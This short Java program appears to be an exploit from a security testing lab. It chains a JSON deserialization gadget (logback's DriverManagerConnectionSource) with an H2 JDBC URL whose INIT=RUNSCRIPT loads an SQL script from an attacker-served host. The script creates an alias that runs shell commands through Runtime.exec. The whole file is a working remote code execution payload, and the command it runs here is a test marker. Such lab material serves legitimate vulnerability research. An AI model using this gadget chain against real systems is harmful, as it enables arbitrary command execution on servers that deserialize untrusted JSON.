import java.util.Map;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String script =
        "CREATE ALIAS T AS 'void t(String c) throws Exception {"
            + " Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", c}); }'; CALL T('"
            + Attacker.touch()
            + "');";
    Attacker.serve(Map.of("/a.sql", script.getBytes()));
    Attacker.post(
        "/json",
        "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {\"url\":"
            + "\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=0;INIT=RUNSCRIPT FROM '"
            + Attacker.WEB
            + "/a.sql'\"}]");
    Attacker.done();
  }
}
